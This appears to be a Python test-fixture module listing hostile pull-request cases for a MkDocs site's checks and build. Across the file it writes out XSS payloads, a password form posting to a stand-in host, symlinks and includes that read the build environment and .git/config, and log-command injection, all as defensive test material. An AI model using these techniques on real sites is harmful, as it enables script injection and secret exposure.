"""The hostile corpus: what a stranger's pull request can try, and what the checks and the build do about it.

Each case is the files it adds to the fixture site (sitekit.BASE) and its expected outcome:

- `check`: the lines `make check` must print, as (path, line, col, code, words of the message); () when the
  check finds nothing on the case's files (the build or the output is then what stops it);
- `build`: the lines the strict build must log at level error (the same shape); () when the build must pass;
- `absent`: text no file of the built site may contain (the payload is gone from the output, or never published);
- `outcome`: "rejected" (the strict build fails with a positioned message; the payload is also removed from the
  output of a build that goes on anyway) or "neutralised" (the build passes; the output is harmless: the payload
  is text, or the Content-Security-Policy blocks it in the browser);
- `fatal`: the problem stops the build before any page is read (such cases are built alone);
- `browser`: the Chromium test builds every non-fatal case with this set into one site and visits it.

Payloads set `window.__pwned`, or load from evil.example: the Chromium test asserts neither happens. The cases of
issue 16 come first; the older ones (the first unsafe-html list) after them.
"""

from __future__ import annotations

from dataclasses import dataclass, field

Expect = tuple[str, int, int, str, str]  # path, line, col, code, words the message contains

PWN = "window.__pwned=1"
EVIL = "https://evil.example"
CANARY = "briefing-canary-7f3a9c"  # put in the environment and in a fake .git/config: must never be published


@dataclass(frozen=True)
class Case:
    id: str
    what: str
    files: dict[str, str | bytes]
    outcome: str
    check: tuple[Expect, ...] = ()
    build: tuple[Expect, ...] = ()
    absent: tuple[str, ...] = ()
    present: tuple[tuple[str, str], ...] = ()  # (built file, text it must contain)
    links: dict[str, str] = field(default_factory=dict)  # docs/ path -> symbolic link target
    raw_names: tuple[bytes, ...] = ()  # docs/ file names as bytes (not UTF-8)
    outside: dict[str, str] = field(default_factory=dict)  # files of the repository outside docs/
    fatal: bool = False
    browser: bool = True


def page(title: str, *lines: str) -> str:
    """A plain page: '# title' on line 1, a blank line, then `lines` from line 3."""
    return f"# {title}\n\n" + "\n".join(lines) + "\n"


def source(title_yaml: str, extra: str = "") -> str:
    return (
        f"---\ntype: source\ntitle: {title_yaml}\npublisher: Example\nurl: https://example.org/x\n"
        f"published: 2021-01-01\nkind: secondary\n{extra}---\n\nA document.\n"
    )


H = "hostile/"


def _body(
    id_: str, what: str, payload: str, col: int, code_words: str, absent: tuple[str, ...], **kw
) -> Case:
    """A plain page hostile/<id>.md whose line 3 is the payload; the check and the build report it at line 3."""
    path = f"{H}{id_}.md"
    check = kw.pop("check", ((path, 3, col, "unsafe-html", code_words),))
    build = kw.pop("build", check)
    return Case(id_, what, {path: page(id_, payload)}, "rejected", check, build, absent, **kw)


CASES: list[Case] = [
    # --- titles, descriptions, tags ---------------------------------------------------------------
    Case(
        "source-title-html",
        "A source's title closes <title> and adds an image with a handler; the page has no # heading.",
        {"sources/evil-title.md": source(f"'</title><img src=x onerror=\"{PWN}\">'")},
        "rejected",
        check=(
            ("sources/evil-title.md", 3, 8, "not-plain-text", "'<', which the theme would print as HTML"),
        ),
        build=(("sources/evil-title.md", 3, 8, "not-plain-text", "'<'"),),
        absent=("<img src=x onerror",),
    ),
    Case(
        "plain-title-script",
        "A plain page's front-matter title is a script element.",
        {f"{H}plain-title.md": f'---\ntitle: "<script>{PWN}</script>"\n---\n\n# Plain\n'},
        "rejected",
        check=((f"{H}plain-title.md", 2, 8, "not-plain-text", "'<'"),),
        build=((f"{H}plain-title.md", 2, 8, "not-plain-text", "'<'"),),
        absent=(f"<script>{PWN}",),
    ),
    Case(
        "plain-description-attribute",
        "A description that closes the description meta's attribute and turns it into a refresh to another site.",
        {
            f"{H}description.md": '---\ndescription: \'x" http-equiv="refresh" content="0;url='
            + EVIL
            + "/'\n---\n\n# Description\n"
        },
        "rejected",
        check=((f"{H}description.md", 2, 14, "not-plain-text", "can end an HTML attribute"),),
        build=((f"{H}description.md", 2, 14, "not-plain-text", "'\"'"),),
        absent=(f'http-equiv="refresh" content="0;url={EVIL}',),
    ),
    Case(
        "plain-tag-html",
        "A plain page's tag is HTML (plain pages' tags were not checked at all).",
        {f"{H}tag-html.md": f"---\ntags: ['<img src=x onerror={PWN}>']\n---\n\n# Tag\n"},
        "rejected",
        check=(
            (f"{H}tag-html.md", 2, 8, "not-plain-text", "'<'"),
            (f"{H}tag-html.md", 2, 8, "unknown-tag", "not in the allowed list"),
        ),
        build=((f"{H}tag-html.md", 2, 8, "not-plain-text", "'<'"),),
        absent=("<img src=x onerror",),
    ),
    Case(
        "plain-tag-not-allowed",
        "A plain page's tag outside the allowed list (plain pages skipped the list).",
        {f"{H}tag-free.md": "---\ntags: [propaganda]\n---\n\n# Tag\n"},
        "rejected",
        check=((f"{H}tag-free.md", 2, 8, "unknown-tag", "'propaganda', which is not in the allowed list"),),
        build=((f"{H}tag-free.md", 2, 8, "unknown-tag", "'propaganda'"),),
        browser=False,
    ),
    Case(
        "heading-title-references",
        "A title from the first heading, written with character references that the theme decodes.",
        {f"{H}heading-refs.md": f"# &lt;img src=x onerror={PWN}&gt;\n\nText.\n"},
        "rejected",
        check=((f"{H}heading-refs.md", 1, 3, "not-plain-text", "a character reference"),),
        build=((f"{H}heading-refs.md", 1, 3, "not-plain-text", "a character reference"),),
        absent=("<img src=x onerror",),
    ),
    Case(
        "heading-title-html",
        "A title from the first heading that is raw HTML with a handler.",
        {f"{H}heading-html.md": f"# <img src=x onerror={PWN}>\n\nText.\n"},
        "rejected",
        check=(
            (f"{H}heading-html.md", 1, 3, "not-plain-text", "'<'"),
            (f"{H}heading-html.md", 1, 14, "unsafe-html", "event-handler attribute 'onerror'"),
        ),
        build=((f"{H}heading-html.md", 1, 3, "not-plain-text", "'<'"),),
        absent=("<img src=x onerror", 'onerror="window'),
    ),
    # --- HTML in the text that the old scan missed ------------------------------------------------
    _body(
        "svg-onload",
        "An <svg> with an onload handler.",
        f"<svg/onload={PWN}>",
        1,
        "element <svg>",
        ("<svg/",),
    ),
    _body(
        "attr-list-handler",
        "attr_list puts a handler on a paragraph.",
        f'Hover me\n{{: onmouseover="{PWN}" }}',
        4,
        "event-handler attribute 'onmouseover'",
        ("onmouseover",),
        check=((f"{H}attr-list-handler.md", 4, 4, "unsafe-html", "event-handler attribute 'onmouseover'"),),
    ),
    _body(
        "html-tab-in-scheme",
        "A javascript: href with a tab written as a character reference inside the scheme.",
        f'<a href="java&#x09;script:{PWN}">x</a>',
        10,
        "'javascript:' URL written with character references",
        ('href="java',),
    ),
    _body(
        "markdown-link-decimal-reference",
        "A Markdown link whose scheme hides a letter as a decimal character reference.",
        f"[x](jav&#97;script:{PWN})",
        5,
        "'javascript:' URL written with character references",
        ('href="jav',),
    ),
    Case(
        "reference-definition-colon",
        "A reference definition whose colon is written &colon;.",
        {f"{H}refdef.md": page("refdef", "A [link][r].", "", f"[r]: javascript&colon;{PWN}")},
        "rejected",
        check=(
            (f"{H}refdef.md", 5, 6, "unsafe-html", "'javascript:' URL written with character references"),
        ),
        build=((f"{H}refdef.md", 5, 6, "unsafe-html", "'javascript:' URL"),),
        absent=('href="javascript',),
    ),
    Case(
        "code-span-across-lines",
        "<script> inside what looks like a code span broken across lines: a tag at the start of a line opens an "
        "HTML block in Markdown.",
        {f"{H}codespan.md": page("codespan", "Text `code", f"<script>{PWN}</script>", "more` end.")},
        "rejected",
        check=((f"{H}codespan.md", 4, 1, "unsafe-html", "element <script>"),),
        build=((f"{H}codespan.md", 4, 1, "unsafe-html", "element <script>"),),
        absent=(f"<script>{PWN}",),
    ),
    Case(
        "pseudo-fence",
        "<script> inside a '```!!!' line, which looks like a fence but is not one for Markdown.",
        {f"{H}pseudo-fence.md": page("pseudo", "```!!!", f"<script>{PWN}</script>", "```")},
        "rejected",
        check=((f"{H}pseudo-fence.md", 4, 1, "unsafe-html", "element <script>"),),
        build=((f"{H}pseudo-fence.md", 4, 1, "unsafe-html", "element <script>"),),
        absent=(f"<script>{PWN}",),
    ),
    Case(
        "u2028-fence",
        "A fence line ended by U+2028, which Python splits lines at and Markdown does not.",
        {f"{H}u2028.md": page("u2028", "```\u2028", f"<script>{PWN}</script>")},
        "rejected",
        check=((f"{H}u2028.md", 4, 1, "unsafe-html", "element <script>"),),
        build=((f"{H}u2028.md", 4, 1, "unsafe-html", "element <script>"),),
        absent=(f"<script>{PWN}",),
    ),
    Case(
        "lone-carriage-returns",
        "Lines ended by a lone carriage return.",
        {f"{H}lone-cr.md": f"# Lone\r\rText\r<script>{PWN}</script>\r".encode()},
        "rejected",
        check=((f"{H}lone-cr.md", 4, 1, "unsafe-html", "element <script>"),),
        build=((f"{H}lone-cr.md", 4, 1, "unsafe-html", "element <script>"),),
        absent=(f"<script>{PWN}",),
    ),
    _body(
        "base-href",
        "<base> makes Material's own scripts and every relative link load from another host.",
        f'<base href="{EVIL}/">',
        1,
        "element <base>",
        ("<base",),
    ),
    _body(
        "meta-refresh",
        "A refresh to another site.",
        f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
        1,
        "element <meta>",
        (f'<meta http-equiv="refresh" content="0;url={EVIL}',),
    ),
    _body(
        "link-stylesheet",
        "A stylesheet from another host.",
        f'<link rel="stylesheet" href="{EVIL}/x.css">',
        1,
        "element <link>",
        (f"{EVIL}/x.css",),
    ),
    _body(
        "page-covering-style",
        "A style attribute that covers the page with a fake sign-in box.",
        '<div style="position:fixed;inset:0;background:#fff;z-index:9">Sign in again</div>',
        6,
        "attribute 'style'",
        ('style="position:fixed',),
    ),
    _body(
        "theme-id",
        "An id Material reads its configuration from (#__config), which page content must not shadow.",
        '<div id="__config">{"base": "https://evil.example/"}</div>',
        10,
        "id '__config'",
        ('id="__config">{',),
        check=(),
        build=((f"{H}theme-id.md", 3, 10, "unsafe-html", "id '__config' on <div>"),),
    ),
    _body(
        "theme-data-attribute",
        "A data-md-* attribute, Material's own state.",
        '<span data-md-component="search">x</span>',
        7,
        "data-md-component",
        ('data-md-component="search">x',),
        check=(),
        build=(
            (f"{H}theme-data-attribute.md", 3, 7, "unsafe-html", "attribute 'data-md-component' on <span>"),
        ),
    ),
    Case(
        "issue-summary-link",
        "An issue summary with escaped link syntax, listed on the home page.",
        {
            "index.md": "# Home\n\nSee [[canada]], [[two-michaels]] and [[evil-summary]].\n\n"
            "<!-- briefing:open-issues -->\n",
            "issues/evil-summary.md": "---\ntype: issue\ntitle: Evil summary\nsummary: '\\[x\\](javascript:"
            + PWN
            + ")'\nstatus: active\nstarted: 2020-01-01\nactors: [canada]\nlast_reviewed: 2026-11-01\n---\n\n"
            "# Evil summary\n",
        },
        "neutralised",
        absent=('href="javascript:',),
        present=(("index.html", "(javascript:window.__pwned=1)"),),
    ),
    Case(
        "external-image",
        "An image from another host (a tracking pixel): allowed by the sanitiser, blocked by the policy.",
        {f"{H}pixel.md": page("pixel", f"![pixel]({EVIL}/pixel.png)")},
        "neutralised",
        present=((f"{H}pixel/index.html", "img-src 'self' data:"),),
    ),
    # --- files the checks never read ----------------------------------------------------------------
    Case(
        "markdown-extension",
        "A page ending .markdown: MkDocs renders it, the checks read only .md.",
        {f"{H}page.markdown": page("markdown", f"<script>{PWN}</script>")},
        "rejected",
        check=((f"{H}page.markdown", 1, 1, "unpublishable-file", "Rename it to 'hostile/page.md'"),),
        build=((f"{H}page.markdown", 1, 1, "unpublishable-file", "does not publish this file"),),
        absent=(f"<script>{PWN}",),
    ),
    Case(
        "mdown-extension",
        "A page ending .mdown.",
        {f"{H}page2.mdown": page("mdown", f"<script>{PWN}</script>")},
        "rejected",
        check=((f"{H}page2.mdown", 1, 1, "unpublishable-file", "only .md pages"),),
        build=((f"{H}page2.mdown", 1, 1, "unpublishable-file", "does not publish"),),
        absent=(f"<script>{PWN}",),
    ),
    Case(
        "html-file",
        "An .html file under docs/, which MkDocs copies as it is.",
        {f"{H}evil.html": f"<!doctype html><script>{PWN}</script>"},
        "rejected",
        check=((f"{H}evil.html", 1, 1, "unpublishable-file", "Pages are written in Markdown"),),
        build=((f"{H}evil.html", 1, 1, "unpublishable-file", "does not publish"),),
        absent=(f"<script>{PWN}",),
    ),
    Case(
        "svg-file",
        "An .svg file (an SVG document runs its scripts when opened).",
        {"assets/evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"/>'},
        "rejected",
        check=(("assets/evil.svg", 1, 1, "unpublishable-file", "Remove the file"),),
        build=(("assets/evil.svg", 1, 1, "unpublishable-file", "does not publish"),),
        absent=(f'onload="{PWN}"',),
    ),
    Case(
        "snippet-text",
        "A snippet with a script, included into a page: the included text is checked like a page.",
        {
            "snippets/evil.md": f"Included.\n\n<script>{PWN}</script>\n",
            f"{H}includer.md": page("includer", '--8<-- "evil.md"'),
        },
        "rejected",
        check=(("snippets/evil.md", 3, 1, "unsafe-html", "element <script>"),),
        build=(("snippets/evil.md", 3, 1, "unsafe-html", "element <script>"),),
        absent=(f"<script>{PWN}",),
    ),
    Case(
        "timeline-page",
        "A page at docs/timeline/1999.md, where the build generates year pages (it used to skip timeline/).",
        {"timeline/1999.md": page("1999", f"<script>{PWN}</script>")},
        "rejected",
        check=(("timeline/1999.md", 1, 1, "generated-path", "the build generates"),),
        build=(("timeline/1999.md", 1, 1, "generated-path", "the build generates"),),
        absent=(f"<script>{PWN}",),
    ),
    Case(
        "entity-address",
        "actors/canada/index.md has the address of the Canada page, which it silently replaced.",
        {"actors/canada/index.md": page("Canada", "A different Canada page.")},
        "rejected",
        check=(
            ("actors/canada/index.md", 1, 1, "url-collision", "docs/actors/canada.md have the same address"),
        ),
        build=(("actors/canada/index.md", 1, 1, "url-collision", "have the same address"),),
        absent=("A different Canada page.",),
        present=(("actors/canada/index.html", 'class="infobox"'),),
    ),
    # --- links, includes, names: stop the build before MkDocs reads a page --------------------------
    Case(
        "symlink-environment",
        "A page linked to /proc/self/environ published the build's environment.",
        {},
        "rejected",
        links={f"{H}env.md": "/proc/self/environ"},
        check=((f"{H}env.md", 1, 1, "symlink", "symbolic link (to '/proc/self/environ')"),),
        build=((f"{H}env.md", 1, 1, "symlink", "symbolic link"),),
        absent=(CANARY,),
        fatal=True,
    ),
    Case(
        "symlink-git-folder",
        "A folder linked to ../.git published the repository's .git.",
        {},
        "rejected",
        links={"gitleak": "../.git"},
        outside={".git/config": f"[remote]\n\turl = https://x:{CANARY}@example.org/r\n"},
        check=(("gitleak", 1, 1, "symlink", "not a folder in the repository"),),
        build=(("gitleak", 1, 1, "symlink", "symbolic link"),),
        absent=(CANARY,),
        fatal=True,
    ),
    Case(
        "include-git-config",
        "An include of .git/config passed the include check (paths were relative to the repository root).",
        {f"{H}git-config.md": page("git", '--8<-- ".git/config"')},
        "rejected",
        outside={".git/config": f"[remote]\n\turl = https://x:{CANARY}@example.org/r\n"},
        check=((f"{H}git-config.md", 3, 9, "include-outside-repo", "names a file outside docs/snippets/"),),
        build=((f"{H}git-config.md", 3, 9, "include-outside-repo", "outside docs/snippets/"),),
        absent=(CANARY,),
        fatal=True,
    ),
    Case(
        "symlink-loop",
        "A folder linked to itself: MkDocs follows links, and burned minutes before a traceback.",
        {},
        "rejected",
        links={"loop": "."},
        check=(("loop", 1, 1, "symlink", "symbolic link (to '.')"),),
        build=(("loop", 1, 1, "symlink", "symbolic link"),),
        fatal=True,
    ),
    Case(
        "file-name-not-utf8",
        "A file name with a byte that is not UTF-8 crashed MkDocs with a traceback.",
        {},
        "rejected",
        raw_names=(b"caf\xe9.md",),
        check=(("caf\\xe9.md", 1, 1, "bad-file-name", "is not UTF-8"),),
        build=(("caf\\xe9.md", 1, 1, "bad-file-name", "is not UTF-8"),),
        fatal=True,
    ),
    Case(
        "file-name-bidi",
        "A file name with a right-to-left override, which shows a different name than it has.",
        {f"{H}evil\u202egnp.md": page("bidi", "Text.")},
        "rejected",
        check=((f"{H}evil\\u202egnp.md", 1, 1, "bad-file-name", "U+202E RIGHT-TO-LEFT OVERRIDE"),),
        build=((f"{H}evil\\u202egnp.md", 1, 1, "bad-file-name", "U+202E"),),
        fatal=True,
    ),
    # --- logs ---------------------------------------------------------------------------------------
    Case(
        "workflow-command-in-value",
        "A value with line breaks that would write GitHub workflow commands into the logs.",
        {f"{H}log.md": '---\ntags: ["x\\n::stop-commands::tok\\n::error ::pwned"]\n---\n\n# Log\n'},
        "rejected",
        check=((f"{H}log.md", 2, 8, "unknown-tag", "'x\\n::stop-commands::tok\\n::error ::pwned'"),),
        build=((f"{H}log.md", 2, 8, "unknown-tag", "'x\\n::stop-commands::tok\\n::error ::pwned'"),),
        browser=False,
    ),
    Case(
        "bidi-in-value",
        "A bidi override in a value, echoed raw into the logs.",
        {f"{H}bidi.md": '---\ntags: ["safe\\u202eevil"]\n---\n\n# Bidi\n'},
        "rejected",
        check=((f"{H}bidi.md", 2, 8, "not-plain-text", "the control character U+202E"),),
        build=((f"{H}bidi.md", 2, 8, "unknown-tag", "'safe\\u202eevil'"),),
        browser=False,
    ),
    # --- the first unsafe-html list ---------------------------------------------------------------
    _body(
        "script-element",
        "A script element.",
        f"<script>{PWN}</script>",
        1,
        "element <script>",
        (f"<script>{PWN}",),
    ),
    _body(
        "iframe",
        "An iframe of another site.",
        f'<iframe src="{EVIL}/"></iframe>',
        1,
        "element <iframe>",
        ("<iframe",),
    ),
    _body(
        "form",
        "A form that posts a password elsewhere.",
        f'<form action="{EVIL}/"><input name="pw"></form>',
        1,
        "element <form>",
        (f'<form action="{EVIL}', 'name="pw"'),
    ),
    _body(
        "img-onerror",
        "An image with an error handler.",
        f'<img src="x.png" onerror="{PWN}">',
        18,
        "event-handler attribute 'onerror'",
        ('onerror="window',),
    ),
    _body(
        "javascript-link",
        "A javascript: Markdown link.",
        f"[x](javascript:{PWN})",
        5,
        "'javascript:' URL",
        ('href="javascript:',),
    ),
    _body(
        "data-image",
        "A data: URL image.",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        6,
        "'data:' URL",
        ("data:image/svg+xml;base64",),
    ),
    _body(
        "object",
        "An object element.",
        '<object data="x.swf"></object>',
        1,
        "element <object>",
        ("<object",),
    ),
]
